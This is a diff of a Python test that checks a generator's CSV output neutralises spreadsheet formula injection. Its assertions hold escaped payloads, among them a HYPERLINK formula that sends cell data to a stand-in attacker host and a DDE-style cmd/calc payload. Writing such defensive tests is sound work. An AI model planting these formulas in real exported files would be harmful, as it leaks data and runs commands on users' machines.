@@ -9,8 +9,8 @@ import shutil
 from pathlib import Path
 
 import yaml
+from conftest import REPO, run_handbook
 
-from conftest import REPO, run_handbook, tree_digest
 from generator.core.csv_cells import FORMULA_STARTS, csv_text, safe_cell
 
 PAYLOADS = [
@@ -56,8 +56,10 @@ def test_every_csv_output_neutralises_hostile_names(project: Path):
     assert project / "build/private/acknowledgements.csv" in outputs
     for path in outputs:
         assert dangerous_cells(path) == [], path
-    names = {row["name"] for row in csv.DictReader((project / "build/private/acknowledgements.csv").open(encoding="utf-8"))}
-    assert "'=HYPERLINK(\"http://attacker.example/?\"&A1,\"Click\")" in names  # kept, readable, inert
+    names = {
+        row["name"] for row in csv.DictReader((project / "build/private/acknowledgements.csv").open(encoding="utf-8"))
+    }
+    assert '\'=HYPERLINK("http://attacker.example/?"&A1,"Click")' in names  # kept, readable, inert
     assert "'+1+1" in names and "'@SUM(1+1)*cmd|' /C calc'!A0" in names
 
 
